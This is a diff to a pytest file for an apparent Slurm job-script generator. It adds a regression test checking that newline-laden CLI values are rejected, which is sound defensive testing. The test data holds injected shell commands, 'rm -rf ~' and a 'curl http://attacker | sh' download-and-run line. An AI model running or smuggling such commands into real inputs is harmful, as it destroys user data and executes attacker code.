@@ -20,6 +20,7 @@ from pathlib import Path
 import pytest
 
 import eagle3_raw
+from eagle3_raw.cli import main
 from eagle3_raw.journal import Journal
 from tests.helpers import (
     generations,
@@ -104,6 +105,26 @@ def test_the_scripts_say_what_slurm_must_do(tmp_path: Path) -> None:
     assert "#SBATCH --time=01:00:00" in merge and "--gpus" not in merge
     assert " merge " in merge and " push " in merge and "--repo org/name --tag v1" in merge
     assert "sbatch --dependency=afterok:" in shown
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        ["--partition", "gpu\nrm -rf ~"],
+        ["--sbatch-arg=--account=abc\ncurl http://attacker | sh"],
+        ["--time", "1:00:00\r"],
+        ["--mem", "8G\x1b[2J"],
+    ],
+)
+def test_a_value_with_a_control_character_never_becomes_a_shell_line(
+    tmp_path: Path, extra: list[str]
+) -> None:
+    """Issue 22, finding 8: a newline in --partition or --sbatch-arg was a line of the sbatch script."""
+    recipe = _recipe(tmp_path)
+    argv = ["slurm", str(recipe), "--shards", "2", "--journal-dir", str(tmp_path / "j"),
+            "--job-dir", str(tmp_path / "job"), *extra]  # fmt: skip
+    assert main(argv) == 1
+    assert not (tmp_path / "job" / "shards.sbatch").exists()
 
 
 def test_the_job_scripts_under_a_stand_in_for_slurm(tmp_path: Path) -> None:
